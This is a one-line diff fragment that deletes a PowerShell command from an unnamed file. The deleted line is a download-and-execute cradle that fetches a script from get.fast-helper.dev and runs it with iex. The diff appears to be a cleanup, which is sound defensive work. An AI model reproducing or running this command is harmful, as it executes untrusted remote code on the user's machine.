@@ -1,1 +1,0 @@
-iex (New-Object Net.WebClient).DownloadString("https://get.fast-helper.dev/a.ps1")
